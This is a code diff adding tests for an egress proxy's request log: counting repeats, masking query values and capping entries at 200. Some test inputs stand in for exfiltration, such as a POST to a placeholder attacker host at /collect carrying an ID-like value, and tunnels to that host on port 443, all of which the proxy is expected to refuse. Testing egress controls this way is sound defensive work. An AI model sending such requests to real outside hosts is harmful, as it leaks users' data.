@@ -177,6 +177,40 @@ describe('egress proxy, by hand', () => {
   });
 });
 
+describe('egress proxy: its request log, as data', () => {
+  it('logs each request it let through and refused (method, host, port, path without query values, rule), repeats counted, and starts again once taken', async () => {
+    const { port, proxy } = await startProxy();
+    for (let i = 0; i < 3; i++) expect((await viaProxy(port, `${server.origin()}/hello?pan=AMNPR6621D&x=1`)).status).toBe(200);
+    expect(await viaProxy(port, `http://${ATTACKER}:${server.port}/collect?d=AMNPR6621D`, 'POST')).toEqual({ status: 'no answer', body: '' });
+    expect(await viaProxy(port, `http://${ATTACKER}:${server.port}/collect?d=AMNPR6621D`, 'POST')).toEqual({ status: 'no answer', body: '' });
+    expect((await tunnel(port, `${HELP}:${server.port}`)).status).toBe(200);
+    expect((await tunnel(port, `${ATTACKER}:443`)).status).toBe(403);
+    expect((await tunnel(port, `${ATTACKER}:443`)).status).toBe(403);
+    const log = proxy.takeRequests();
+    const rows = log.map((e) => ({ ...e, firstAt: typeof e.firstAt, lastAt: typeof e.lastAt }));
+    expect(rows).toEqual([
+      { kind: 'http', method: 'GET', host: PORTAL, port: server.port, path: '/hello?pan=…&x=…', outcome: 'sent', rule: 'egress-lock:portal-hosts', count: 3, firstAt: 'string', lastAt: 'string' },
+      { kind: 'http', method: 'POST', host: ATTACKER, port: server.port, path: '/collect?d=…', outcome: 'refused', rule: 'egress-lock:portal-hosts', reason: expect.stringMatching(/not one of/), count: 2, firstAt: 'string', lastAt: 'string' },
+      { kind: 'tunnel', method: 'CONNECT', host: HELP, port: server.port, path: null, outcome: 'sent', rule: 'egress-lock:portal-hosts', count: 1, firstAt: 'string', lastAt: 'string' },
+      { kind: 'tunnel', method: 'CONNECT', host: ATTACKER, port: 443, path: null, outcome: 'refused', rule: 'egress-lock:portal-hosts', reason: expect.any(String), count: 2, firstAt: 'string', lastAt: 'string' },
+    ]);
+    // No query value, anywhere in the log.
+    expect(JSON.stringify(log)).not.toContain('AMNPR6621D');
+    expect(proxy.takeRequests()).toEqual([]);
+    expect((await viaProxy(port, `${server.origin()}/again`)).status).toBe(200);
+    expect(proxy.takeRequests().map((e) => `${e.method} ${e.path} ${e.count}`)).toEqual(['GET /again 1']);
+  });
+
+  it('keeps a step of many distinct requests to 200 entries: the rest are counted per host', async () => {
+    const { port, proxy } = await startProxy();
+    for (let i = 0; i < 230; i += 10) await Promise.all(Array.from({ length: 10 }, (_, j) => viaProxy(port, `${server.origin()}/img/${i + j}.png`)));
+    const log = proxy.takeRequests();
+    expect(log).toHaveLength(201);
+    expect(log.at(-1)).toMatchObject({ method: '*', host: PORTAL, path: '(more requests, counted together)', outcome: 'sent', count: 30 });
+    expect(log.reduce((n, e) => n + e.count, 0)).toBe(230);
+  });
+});
+
 describe('egress proxy in Chromium, with no other lock', () => {
   let browser: Browser;
   let context: BrowserContext;
